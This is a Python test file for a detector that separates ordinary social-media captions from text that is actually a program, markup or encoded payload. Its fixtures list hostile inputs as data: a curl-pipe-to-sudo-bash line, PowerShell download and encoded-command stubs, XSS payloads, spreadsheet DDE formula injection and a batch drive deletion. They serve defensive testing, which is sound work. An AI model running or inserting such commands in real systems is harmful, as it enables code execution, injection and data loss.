"""Texts that are programs, markup or documents, and the captions that only look a little like them."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.inspection.probing import refused, understood
from transfer.inspection.programs import program_in, program_named
from transfer.model.findings import Code

CAPTIONS = [
    "I <3 this place",
    "\N{WHITE RIGHT POINTING BACKHAND INDEX} <link in bio> #openday @oxford",
    "Anna(19)\nBen(20)\nCara(21)",
    "- Call (01865) 270000\n- Mail us\n- Come by",
    "for all students:\n- lunch\nfor all staff:\n- dinner",
    "UPDATE doors open at 9\nUPDATE bring ID\nUPDATE see you",
    "= 5 (five) reasons",
    "@uni|press office!",
    "{Open day}",
    "[2024]",
    "[Applause]",
    "[1, 2, 3]",
    "Learn Python: print('hello')! Today: def f(x): and more",
    "Never type rm -rf / at work",
    "run `pip install foo`",
    "if you like it;\nif you do not;\nstay;",
    "-----------\nOPEN DAY\n-----------",
    "roses are red;\nviolets are blue;\nsugar is sweet;",
    "1. start here\n2. set a goal\n3. go",
    "start here now\nset your alarm\nwe wait\nfor you",
    "#include everyone",
    "Use <b>bold</b> and <i>italics</i>",
    "5 <% 10",
    "From Oxford import happiness",
    "<video> of the day",
    "(\N{MACRON}\\_(\N{KATAKANA LETTER TU})_/\N{MACRON})",
    "\\o/ we won \\o/",
    "ha" * 700,
    "ID; please bring it",
]
PROGRAMS = [
    ("#!/bin/sh\nls", "script"),
    ("hello < script >", "markup"),
    ("<img src=x onerror=1>", "markup"),
    ("<svg/onload=1>", "markup"),
    ('see <a href="x">here</a>', "markup"),
    ("<?xml version='1.0'?><a/>", "markup"),
    ("javascript:alert(1)", "script"),
    ("data:image/png;base64,AAAA", "script"),
    ('=HYPERLINK("http://x")', "formula"),
    ("name,=cmd\n=cmd|'/c calc'!A1", "formula"),
    ('{"a": 1}', "json"),
    ('[{"a":1}]', "json"),
    ("curl -s http://x/y.sh | sudo bash", "shell"),
    ("echo hi\nsudo apt install x\ncd /tmp", "source code"),
    ("import os\nos.system('x')\nprint('a')", "source code"),
    ("function f() {\n  return x;\n}\n", "source code"),
    ("SELECT a FROM b\nDELETE FROM c\nDROP TABLE d", "source code"),
    ("\\documentclass{article}", "tex"),
    ("so {\\rtf1 x}", "rtf"),
    ("words\n%PDF-1.7\n1 0 obj", "pdf"),
    ("-----BEGIN PRIVATE KEY-----", "key"),
    ("[InternetShortcut]\nURL=x", "file of a program"),
    ("#include <stdio.h>\nint main(){}", "file of a program"),
    ("REGEDIT4\n", "file of a program"),
    ("ID;PWXL;N;E\nC;Y1;X1;ECALL", "file of a program"),
    ("powershell -enc AAAA", "powershell"),
    ("IEX (New-Object Net.WebClient)", "powershell"),
    ("@echo off\ndel c:", "batch"),
    ('set x = CreateObject("WScript.Shell")', "macro"),
    ("BEGIN:VCARD\nFN:x\nEND:VCARD", "card"),
    ("aB3" * 400, "encoded data"),
]


@pytest.mark.parametrize("words", CAPTIONS)
def test_ordinary_captions_pass(words: str) -> None:
    assert program_named(words) == ("", 0)
    understood(words.encode(), ".txt")


@pytest.mark.parametrize(("words", "kind"), PROGRAMS)
def test_programs_are_named(words: str, kind: str) -> None:
    assert program_named(words)[0] == kind
    assert refused(words.encode(), ".txt") in {Code.TEXT_IS_PROGRAM, Code.TYPE_MISMATCH}  # libmagic knows some of them


@pytest.mark.parametrize(("words", "kind"), PROGRAMS[:8])
def test_programs_in_subtitles_too(words: str, kind: str) -> None:
    cue = f"1\n00:00:00,000 --> 00:00:02,000\nwords {words}\n"
    if kind != "script" or "#!" not in words:
        assert refused(cue.encode(), ".srt") is Code.TEXT_IS_PROGRAM


@pytest.mark.parametrize(
    "piece",
    [
        "<",
        "< ",
        "</ ",
        "<% a",
        "\n",
        "\t",
        "=\n",
        "=a|'",
        "curl a\n",
        "data:",
        "-----BEGIN ",
        "var a ",
        "class a",
        "{",
        "[",
        "(",
    ],
)
def test_no_text_makes_the_search_slow(piece: str) -> None:
    text = piece * (100_000 // len(piece))
    begun = time.process_time()
    program_named(text)
    assert time.process_time() - begun < 2


@given(st.text(max_size=400) | st.lists(st.sampled_from([*CAPTIONS, *(words for words, _ in PROGRAMS)])).map("\n".join))
def test_any_text_has_an_answer(words: str) -> None:
    kind, at = program_named(words)
    assert 0 <= at <= len(words)
    assert kind.isascii()


@given(st.binary(max_size=300))
def test_any_bytes_have_an_answer(data: bytes) -> None:
    assert program_in(data).isascii()


def test_bytes_that_are_no_text_are_no_program() -> None:
    assert program_in(b"\xff\xfe#!/bin/sh") == ""
    assert program_in("#!/bin/sh \N{GRINNING FACE}".encode()[:-2]) == "script"  # cut within a character
